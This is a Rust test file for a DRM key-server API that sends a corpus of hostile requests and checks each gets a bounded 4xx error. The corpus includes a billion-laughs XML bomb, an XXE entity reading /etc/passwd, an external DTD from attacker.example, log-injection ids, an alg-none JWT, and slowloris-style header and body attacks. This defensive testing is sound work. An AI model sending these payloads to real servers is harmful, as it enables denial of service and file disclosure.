//! The hostile-input corpus: requests an attacker or a broken client sends, each of which
//! must be answered with a clear 4xx in the interface's own error format, within bounded
//! time, with nothing stored. Two halves:
//!
//! - [`CORPUS`]-style cases built by [`corpus`]: well-formed HTTP with bad content (XML
//!   bombs, external entities, huge attributes, deep nesting, bad base64, wrong key lengths,
//!   bad period indices, unicode tricks in ids, truncated documents), sent with reqwest;
//! - connection-level abuse over a raw socket: header floods, a huge header, slow bodies,
//!   truncated bodies, slow headers.
//!
//! "Bounded time" is asserted the only way that cannot flake: every answer must come before
//! a generous client timeout (a hang is a failure); speed is measured in `bench/`.

use std::time::Duration;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD as B64;
use serde_json::json;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;

use crate::common::{ACME_CONFIG, TestServer};
use crate::cpix::{WV, vod_request};
use crate::entitlement::acme_token;

/// Longer than any answer may take here; a request still open after this is a hang.
const HANG: Duration = Duration::from_secs(15);

const NS: &str =
    r#"xmlns:cpix="urn:dashif:org:cpix" xmlns:pskc="urn:ietf:params:xml:ns:keyprov:pskc""#;
const KID: &str = "0b1e5c4a-2f6d-4e8b-9a07-5c3d2e1f0a9b";

#[derive(Clone, Copy)]
enum Auth {
    /// acme's Basic packager credential.
    Packager,
    /// An entitlement token for content `movie-1`.
    Entitlement,
    /// A raw `Authorization` value.
    Raw(&'static str),
}

/// What a correct answer looks like: the status, the content type of the interface's error
/// format, and a word the message must contain (case-insensitive).
struct Case {
    name: &'static str,
    path: &'static str,
    auth: Auth,
    content_type: &'static str,
    body: Vec<u8>,
    status: u16,
    error_type: &'static str,
    needle: &'static str,
}

const PLAIN: &str = "text/plain; charset=utf-8";
const NAGRA: &str = "application/json";
const PROBLEM: &str = "application/problem+json";

fn cpix(name: &'static str, body: impl Into<Vec<u8>>, status: u16, needle: &'static str) -> Case {
    Case {
        name,
        path: "/acme/cpix",
        auth: Auth::Packager,
        content_type: "application/xml",
        body: body.into(),
        status,
        error_type: PLAIN,
        needle,
    }
}

fn nagra(name: &'static str, body: impl Into<Vec<u8>>, needle: &'static str) -> Case {
    Case {
        name,
        path: "/acme/cks-ws-keyAndSignalization/key",
        auth: Auth::Packager,
        content_type: "application/json",
        body: body.into(),
        status: 400,
        error_type: NAGRA,
        needle,
    }
}

fn clearkey(name: &'static str, body: impl Into<Vec<u8>>, auth: Auth, status: u16) -> Case {
    Case {
        name,
        path: "/acme/clearkey/v1/licenses",
        auth,
        content_type: "application/json",
        body: body.into(),
        status,
        error_type: PROBLEM,
        needle: "",
    }
}

/// A CPIX document with one content key whose `<cpix:ContentKey>` carries `key_xml` inside.
fn cpix_with_key(content_id: &str, kid: &str, key_xml: &str, extra: &str) -> String {
    format!(
        r#"<?xml version="1.0" encoding="UTF-8"?><cpix:CPIX {NS} contentId="{content_id}"><cpix:ContentKeyList><cpix:ContentKey kid="{kid}" commonEncryptionScheme="cenc">{key_xml}</cpix:ContentKey></cpix:ContentKeyList>{extra}</cpix:CPIX>"#
    )
}

fn plain_value(b64: &str) -> String {
    format!(
        "<cpix:Data><pskc:Secret><pskc:PlainValue>{b64}</pskc:PlainValue></pskc:Secret></cpix:Data>"
    )
}

fn period_list(index: &str) -> String {
    format!(
        r#"<cpix:ContentKeyPeriodList><cpix:ContentKeyPeriod id="p1" index="{index}"/></cpix:ContentKeyPeriodList>"#
    )
}

fn corpus() -> Vec<Case> {
    let valid = vod_request("hostile-valid", KID, "cenc", &[WV]);
    let deep_xml = format!(
        "<cpix:CPIX {NS} contentId=\"deep\">{}{}</cpix:CPIX>",
        "<cpix:x>".repeat(50_000),
        "</cpix:x>".repeat(50_000)
    );
    let many_keys: String = (0..5_000)
        .map(|i| {
            format!(
                r#"<cpix:ContentKey kid="{:08x}-0000-4000-8000-000000000000"/>"#,
                i
            )
        })
        .collect();
    let deep_json = format!("{}{}", "[".repeat(100_000), "]".repeat(100_000));
    vec![
        // --- CPIX: XML-level attacks -------------------------------------------------------
        cpix(
            "billion laughs",
            format!(
                r#"<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "aaaaaaaaaa">{}]><cpix:CPIX {NS} contentId="&e9;"/>"#,
                (1..10)
                    .map(|i| format!(
                        "<!ENTITY e{i} \"{}\">",
                        format!("&{};", if i == 1 { "a".into() } else { format!("e{}", i - 1) })
                            .repeat(10)
                    ))
                    .collect::<String>()
            ),
            400,
            "dtd",
        ),
        cpix(
            "external entity (XXE)",
            format!(
                r#"<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><cpix:CPIX {NS} contentId="&e;"/>"#
            ),
            400,
            "dtd",
        ),
        cpix(
            "external DTD",
            format!(
                r#"<?xml version="1.0"?><!DOCTYPE cpix:CPIX SYSTEM "http://attacker.example/x.dtd"><cpix:CPIX {NS} contentId="x"/>"#
            ),
            400,
            "dtd",
        ),
        cpix(
            "huge attribute (900 KB contentId)",
            vod_request(&"a".repeat(900_000), KID, "cenc", &[WV]),
            400,
            "content",
        ),
        cpix("deep nesting (50,000 levels)", deep_xml, 400, ""),
        cpix(
            "60,000 attributes on one element (the parser's duplicate check is quadratic)",
            format!(
                "<cpix:CPIX {NS} contentId=\"attrs\"{}/>",
                (0..60_000)
                    .map(|i| format!(" a{i}=\"\""))
                    .collect::<String>()
            ),
            400,
            "more than 128 attributes",
        ),
        cpix(
            "10,000 namespace declarations",
            format!(
                "<cpix:CPIX {NS} contentId=\"ns\">{}</cpix:CPIX>",
                (0..10_000)
                    .map(|i| format!("<cpix:x xmlns:p{i}=\"urn:p{i}\"/>"))
                    .collect::<String>()
            ),
            400,
            "namespace declarations",
        ),
        cpix(
            "5,000 content keys in one request (limit 1,024)",
            format!(
                "<cpix:CPIX {NS} contentId=\"many\"><cpix:ContentKeyList>{many_keys}</cpix:ContentKeyList></cpix:CPIX>"
            ),
            400,
            "more than 1024",
        ),
        cpix(
            "truncated document",
            valid.as_bytes()[..valid.len() / 2].to_vec(),
            400,
            "xml",
        ),
        cpix(
            "not UTF-8",
            {
                let mut b = valid.clone().into_bytes();
                b.splice(60..60, [0xff, 0xfe, 0xc0]);
                b
            },
            400,
            "",
        ),
        cpix("NUL character reference", cpix_with_key("nul&#0;id", KID, "", ""), 400, ""),
        // --- CPIX: bad values --------------------------------------------------------------
        cpix(
            "invalid base64 key",
            cpix_with_key("bad-b64", KID, &plain_value("!!!not-base64!!!"), ""),
            400,
            "base64",
        ),
        cpix(
            "15-byte key",
            cpix_with_key("short-key", KID, &plain_value(&B64.encode([7u8; 15])), ""),
            400,
            "16",
        ),
        cpix(
            "32-byte key",
            cpix_with_key("long-key", KID, &plain_value(&B64.encode([7u8; 32])), ""),
            400,
            "16",
        ),
        cpix(
            "kid that is not a UUID",
            cpix_with_key("bad-kid", "not-a-uuid", "", ""),
            400,
            "kid",
        ),
        cpix(
            "kid in full-width digits",
            cpix_with_key("wide-kid", "０b1e5c4a-2f6d-4e8b-9a07-5c3d2e1f0a9b", "", ""),
            400,
            "kid",
        ),
        cpix(
            "negative period index",
            cpix_with_key("neg-period", KID, "", &period_list("-1")),
            400,
            "index",
        ),
        cpix(
            "huge period index",
            cpix_with_key("huge-period", KID, "", &period_list("99999999999999999999999")),
            400,
            "index",
        ),
        cpix(
            "content id with a right-to-left override",
            cpix_with_key("movie\u{202e}4pm.exe", KID, "", ""),
            400,
            "content",
        ),
        cpix(
            "content id with a zero-width space",
            cpix_with_key("movie\u{200b}1", KID, "", ""),
            400,
            "content",
        ),
        cpix(
            "content id with a newline (log injection)",
            cpix_with_key("movie&#10;level=ERROR forged", KID, "", ""),
            400,
            "content",
        ),
        // --- NAGRA JSON ---------------------------------------------------------------------
        nagra("deep JSON nesting", deep_json.clone(), ""),
        nagra("truncated JSON", &br#"{"drmContent": {"drmContentId": "x", "prof"#[..], ""),
        nagra("JSON that is not UTF-8", &b"{\"drmContent\": \"\xff\xfe\"}"[..], ""),
        nagra(
            "content id with a right-to-left override",
            json!({"drmContent": {"drmContentId": "movie\u{202e}1", "profile": {"distributionMode": "VOD"}}})
                .to_string(),
            "",
        ),
        nagra(
            "huge content id",
            json!({"drmContent": {"drmContentId": "a".repeat(500_000), "profile": {"distributionMode": "VOD"}}})
                .to_string(),
            "",
        ),
        nagra(
            "huge number",
            json!({"drmContent": {"drmContentId": "n", "profile": {"distributionMode": "VOD", "emi": 1e300}}})
                .to_string(),
            "",
        ),
        // --- Widevine API -------------------------------------------------------------------
        Case {
            name: "Widevine request that is not base64",
            path: "/acme/widevine/getcontentkey",
            auth: Auth::Packager,
            content_type: "application/json",
            body: json!({"request": "%%%not base64%%%"}).to_string().into_bytes(),
            // The Widevine API answers in its envelope (HTTP 200, status inside).
            status: 200,
            error_type: "application/json",
            needle: "MALFORMED_REQUEST",
        },
        Case {
            name: "Widevine request with a content id that is not base64",
            path: "/acme/widevine/getcontentkey",
            auth: Auth::Packager,
            content_type: "application/json",
            body: json!({"request": B64.encode(json!({"content_id": "***", "tracks": [{"type": "SD"}]}).to_string())})
                .to_string()
                .into_bytes(),
            status: 200,
            error_type: "application/json",
            needle: "MALFORMED_REQUEST",
        },
        Case {
            name: "Widevine deep JSON nesting",
            path: "/acme/widevine/getcontentkey",
            auth: Auth::Packager,
            content_type: "application/json",
            body: deep_json.clone().into_bytes(),
            status: 200,
            error_type: "application/json",
            needle: "MALFORMED_REQUEST",
        },
        // --- ClearKey licences and entitlement tokens ---------------------------------------
        clearkey(
            "kid that is not base64url",
            json!({"kids": ["!!!!"], "type": "temporary"}).to_string(),
            Auth::Entitlement,
            400,
        ),
        clearkey(
            "10,000 kids",
            json!({"kids": vec!["nrQFDeRLSAKTLifXUIPiZg"; 10_000], "type": "temporary"}).to_string(),
            Auth::Entitlement,
            400,
        ),
        clearkey("deep JSON nesting", deep_json, Auth::Entitlement, 400),
        clearkey(
            "token that is not a JWT",
            json!({"kids": ["nrQFDeRLSAKTLifXUIPiZg"]}).to_string(),
            Auth::Raw("Bearer not.a.jwt"),
            401,
        ),
        clearkey(
            "unsigned token (alg none)",
            json!({"kids": ["nrQFDeRLSAKTLifXUIPiZg"]}).to_string(),
            // {"alg":"none"}.{"sub":"u","contents":["movie-1"],"exp":9999999999}.
            Auth::Raw(
                "Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJ1IiwiY29udGVudHMiOlsibW92aWUtMSJdLCJleHAiOjk5OTk5OTk5OTl9.",
            ),
            401,
        ),
        clearkey(
            "token with invalid base64 segments",
            json!({"kids": ["nrQFDeRLSAKTLifXUIPiZg"]}).to_string(),
            Auth::Raw("Bearer ***.***.***"),
            401,
        ),
    ]
}

fn is_client_error_shape(
    case: &Case,
    status: u16,
    content_type: &str,
    text: &str,
) -> Result<(), String> {
    if status != case.status {
        return Err(format!(
            "status {status}, expected {}: {text:.300}",
            case.status
        ));
    }
    if content_type != case.error_type {
        return Err(format!(
            "content type {content_type:?}, expected {:?}",
            case.error_type
        ));
    }
    if !text.to_lowercase().contains(&case.needle.to_lowercase()) {
        return Err(format!(
            "message {text:.300} should mention {:?}",
            case.needle
        ));
    }
    if text.len() > 4096 {
        return Err(format!(
            "error message of {} bytes: it echoes the input",
            text.len()
        ));
    }
    Ok(())
}

#[tokio::test]
async fn every_corpus_request_gets_a_clear_4xx_and_stores_nothing() {
    let server = TestServer::start().await;
    let client = reqwest::Client::builder().timeout(HANG).build().unwrap();
    let token = acme_token(&["movie-1"]);
    let mut failures = Vec::new();
    for case in corpus() {
        let mut request = client
            .post(server.url(case.path))
            .header("content-type", case.content_type)
            .body(case.body.clone());
        request = match case.auth {
            Auth::Packager => request.basic_auth("packager", Some("s3cret-acme")),
            Auth::Entitlement => request.bearer_auth(&token),
            Auth::Raw(value) => request.header("authorization", value),
        };
        let response = match request.send().await {
            Ok(r) => r,
            Err(e) => {
                failures.push(format!("{}: no answer ({e})", case.name));
                continue;
            }
        };
        let status = response.status().as_u16();
        let content_type = response
            .headers()
            .get("content-type")
            .and_then(|v| v.to_str().ok())
            .unwrap_or("")
            .to_owned();
        let text = response.text().await.unwrap_or_default();
        if let Err(why) = is_client_error_shape(&case, status, &content_type, &text) {
            failures.push(format!("{}: {why}", case.name));
        }
    }
    assert!(
        failures.is_empty(),
        "{} cases failed:\n{}",
        failures.len(),
        failures.join("\n")
    );
    // Nothing of the above created a key: after one valid request, exactly one was created.
    let valid = server
        .post_cpix("acme", vod_request("hostile-valid", KID, "cenc", &[WV]))
        .await;
    assert_eq!(valid.status(), 200);
    let metrics = client
        .get(server.url("/metrics"))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    let created: f64 = metrics
        .lines()
        .filter(|l| l.starts_with("keyplex_keys_total{") && l.contains("source=\"created\""))
        .filter_map(|l| l.rsplit(' ').next()?.parse::<f64>().ok())
        .sum();
    assert_eq!(created, 1.0, "hostile requests created keys:\n{metrics}");
}

// --- connection-level abuse ------------------------------------------------------------------

async fn start_with_short_timeouts() -> TestServer {
    TestServer::start_with(ACME_CONFIG, |config| {
        config.server.request_timeout_seconds = 2;
        config.server.header_timeout_seconds = 2;
    })
    .await
}

fn addr(server: &TestServer) -> String {
    server.base.trim_start_matches("http://").to_owned()
}

/// Sends `head` then `body` pieces (with `pause` between them), then reads the whole answer
/// until the server closes or `HANG` passes.
async fn exchange(server: &TestServer, head: &str, body: &[&[u8]], pause: Duration) -> String {
    let mut stream = TcpStream::connect(addr(server)).await.unwrap();
    stream.write_all(head.as_bytes()).await.unwrap();
    for piece in body {
        tokio::time::sleep(pause).await;
        if stream.write_all(piece).await.is_err() {
            break; // the server already answered and closed
        }
    }
    read_answer(&mut stream).await
}

async fn read_answer(stream: &mut TcpStream) -> String {
    let mut answer = Vec::new();
    let read = tokio::time::timeout(HANG, async {
        let mut buf = [0u8; 8192];
        loop {
            match stream.read(&mut buf).await {
                Ok(0) | Err(_) => break,
                Ok(n) => {
                    answer.extend_from_slice(&buf[..n]);
                    // One answer is enough: stop at the end of a Content-Length body.
                    if complete_response(&answer) {
                        break;
                    }
                }
            }
        }
    })
    .await;
    assert!(
        read.is_ok(),
        "no answer within {HANG:?}: {:?}",
        String::from_utf8_lossy(&answer)
    );
    String::from_utf8_lossy(&answer).into_owned()
}

fn complete_response(bytes: &[u8]) -> bool {
    let text = String::from_utf8_lossy(bytes);
    let Some((head, body)) = text.split_once("\r\n\r\n") else {
        return false;
    };
    head.lines()
        .find_map(|l| {
            let (name, value) = l.split_once(':')?;
            name.eq_ignore_ascii_case("content-length")
                .then(|| value.trim().parse::<usize>().ok())?
        })
        .is_some_and(|len| body.len() >= len)
}

fn status_of(answer: &str) -> Option<u16> {
    answer.split(' ').nth(1)?.parse().ok()
}

fn basic() -> String {
    format!("Basic {}", B64.encode("packager:s3cret-acme"))
}

#[tokio::test]
async fn header_floods_and_huge_headers_are_431() {
    let server = TestServer::start().await;
    let flood: String = (0..500).map(|i| format!("x-flood-{i}: y\r\n")).collect();
    let answer = exchange(
        &server,
        &format!("GET /healthz HTTP/1.1\r\nhost: k\r\n{flood}\r\n"),
        &[],
        Duration::ZERO,
    )
    .await;
    assert_eq!(status_of(&answer), Some(431), "{answer:.200}");
    // Above the default limit (64) but below hyper's own (100): refused by keyplex, on any
    // route, before the route runs; at the limit, served.
    for (fields, route, status) in [
        (70, "/healthz", 431),
        (99, "/acme/cpix", 431),
        (63, "/healthz", 200),
    ] {
        let extra: String = (0..fields).map(|i| format!("x-extra-{i}: y\r\n")).collect();
        let answer = exchange(
            &server,
            &format!("GET {route} HTTP/1.1\r\nhost: k\r\n{extra}\r\n"),
            &[],
            Duration::ZERO,
        )
        .await;
        assert_eq!(
            status_of(&answer),
            Some(status),
            "{fields} fields and host on {route}: {answer:.200}"
        );
    }
    let huge = "a".repeat(64 * 1024);
    let answer = exchange(
        &server,
        &format!("GET /healthz HTTP/1.1\r\nhost: k\r\nx-huge: {huge}\r\n\r\n"),
        &[],
        Duration::ZERO,
    )
    .await;
    assert_eq!(status_of(&answer), Some(431), "{answer:.200}");
    // The server is still fine.
    let ok = exchange(
        &server,
        "GET /healthz HTTP/1.1\r\nhost: k\r\nconnection: close\r\n\r\n",
        &[],
        Duration::ZERO,
    )
    .await;
    assert_eq!(status_of(&ok), Some(200), "{ok:.200}");
}

#[tokio::test]
async fn a_slow_body_is_408_in_the_interfaces_format() {
    let server = start_with_short_timeouts().await;
    let body = vod_request("slow-body", KID, "cenc", &[WV]);
    let head = format!(
        "POST /acme/cpix HTTP/1.1\r\nhost: k\r\nauthorization: {}\r\ncontent-type: application/xml\r\ncontent-length: {}\r\n\r\n",
        basic(),
        body.len()
    );
    // One byte every 300 ms: the whole body would take minutes.
    let pieces: Vec<&[u8]> = body.as_bytes().chunks(1).take(30).collect();
    let answer = exchange(&server, &head, &pieces, Duration::from_millis(300)).await;
    assert_eq!(status_of(&answer), Some(408), "{answer:.300}");
    assert!(answer.contains("text/plain"), "{answer:.300}");
    assert!(answer.contains("not received within 2 s"), "{answer:.300}");

    // NAGRA: the same in its JSON shape.
    let head = format!(
        "POST /acme/cks-ws-keyAndSignalization/key HTTP/1.1\r\nhost: k\r\nauthorization: {}\r\ncontent-type: application/json\r\ncontent-length: 500\r\n\r\n",
        basic()
    );
    let answer = exchange(
        &server,
        &head,
        &[b"{", b"\"", b"d"],
        Duration::from_millis(1200),
    )
    .await;
    assert_eq!(status_of(&answer), Some(408), "{answer:.300}");
    assert!(answer.contains("\"REQUEST_TIMEOUT\""), "{answer:.300}");
}

#[tokio::test]
async fn a_truncated_body_is_400() {
    let server = TestServer::start().await;
    let mut stream = TcpStream::connect(addr(&server)).await.unwrap();
    let head = format!(
        "POST /acme/cpix HTTP/1.1\r\nhost: k\r\nauthorization: {}\r\ncontent-type: application/xml\r\ncontent-length: 1000\r\n\r\n<?xml version",
        basic()
    );
    stream.write_all(head.as_bytes()).await.unwrap();
    // The client gives up half-way: its side of the connection ends.
    stream.shutdown().await.unwrap();
    let answer = read_answer(&mut stream).await;
    assert_eq!(status_of(&answer), Some(400), "{answer:.300}");
    assert!(answer.contains("cannot read request body"), "{answer:.300}");
}

#[tokio::test]
async fn slow_headers_lose_their_connection() {
    let server = start_with_short_timeouts().await;
    let mut stream = TcpStream::connect(addr(&server)).await.unwrap();
    stream
        .write_all(b"GET /healthz HTTP/1.1\r\nhost: k\r\n")
        .await
        .unwrap();
    // Never finishes its headers: the server closes the connection (read gives EOF) after
    // header_timeout_seconds instead of holding it for ever.
    let answer = read_answer(&mut stream).await;
    assert!(answer.is_empty(), "{answer:.300}");
    // An idle keep-alive connection is closed the same way.
    let mut idle = TcpStream::connect(addr(&server)).await.unwrap();
    let answer = read_answer(&mut idle).await;
    assert!(answer.is_empty(), "{answer:.300}");
}

#[tokio::test]
async fn a_body_that_arrives_in_time_is_answered_normally() {
    // A pause inside the body is fine as long as it all arrives before the deadline (the
    // handler deadline itself is tested with a stuck upstream in licence_proxy.rs).
    let server = start_with_short_timeouts().await;
    let body = vod_request("near-deadline", KID, "cenc", &[WV]);
    let (first, rest) = body.as_bytes().split_at(10);
    let head = format!(
        "POST /acme/cpix HTTP/1.1\r\nhost: k\r\nauthorization: {}\r\ncontent-type: application/xml\r\ncontent-length: {}\r\nconnection: close\r\n\r\n",
        basic(),
        body.len()
    );
    let answer = exchange(&server, &head, &[first, rest], Duration::from_millis(600)).await;
    assert_eq!(status_of(&answer), Some(200), "{answer:.300}");
}

/// A megabyte CPIX document within every markup bound (a thousand DRMSystems of a DRM keyplex
/// does not know, each with filler text): parsed in full before it can be refused.
fn heavy_cpix() -> String {
    let kid = "dddddddd-0000-4000-8000-000000000001";
    let filler = "A".repeat(900);
    let drms: String = (0..1000)
        .map(|i| {
            format!(
                r#"<cpix:DRMSystem kid="{kid}" systemId="00000000-0000-4000-8000-{i:012}"><cpix:PSSH>{filler}</cpix:PSSH></cpix:DRMSystem>"#
            )
        })
        .collect();
    format!(
        r#"<cpix:CPIX contentId="heavy" xmlns:cpix="urn:dashif:org:cpix"><cpix:ContentKeyList><cpix:ContentKey kid="{kid}"/></cpix:ContentKeyList><cpix:DRMSystemList>{drms}</cpix:DRMSystemList></cpix:CPIX>"#
    )
}

/// Four authenticated packagers send megabyte documents at once: `/healthz` (and so every
/// other request) is answered while they are still being worked on, because large documents
/// are parsed off the async workers, two at a time. Ordering, not timing: the health check
/// must come back before the first of the heavy requests does.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn health_is_answered_while_heavy_documents_are_parsed() {
    let server = TestServer::start_with(
        &format!(
            "[server]\nmax_body_bytes = 2097152\n{}",
            crate::common::ACME_CONFIG
        ),
        |_| {},
    )
    .await;
    let body = heavy_cpix();
    assert!(body.len() > 900_000, "{}", body.len());
    let started = std::time::Instant::now();
    let mut heavy = Vec::new();
    for _ in 0..4 {
        let client = server.client.clone();
        let url = server.url("/acme/cpix");
        let body = body.clone();
        heavy.push(tokio::spawn(async move {
            let resp = client
                .post(url)
                .basic_auth("packager", Some("s3cret-acme"))
                .body(body)
                .send()
                .await
                .unwrap();
            let status = resp.status();
            (status, std::time::Instant::now())
        }));
    }
    // Let the bodies arrive and their parsing start.
    tokio::time::sleep(Duration::from_millis(30)).await;
    let health = server
        .client
        .get(server.url("/healthz"))
        .send()
        .await
        .unwrap();
    assert_eq!(health.status(), 200);
    let health_done = std::time::Instant::now();
    let mut first_heavy_done = None::<std::time::Instant>;
    for h in heavy {
        let (status, done) = h.await.unwrap();
        assert_eq!(
            status, 400,
            "an unknown DRM system id is refused after parsing"
        );
        first_heavy_done = Some(first_heavy_done.map_or(done, |f| f.min(done)));
    }
    let first_heavy_done = first_heavy_done.unwrap();
    eprintln!(
        "healthz after {:?}, first heavy document answered after {:?}",
        health_done - started,
        first_heavy_done - started
    );
    assert!(
        health_done < first_heavy_done,
        "/healthz waited for the heavy documents: {:?} vs {:?}",
        health_done - started,
        first_heavy_done - started
    );
}
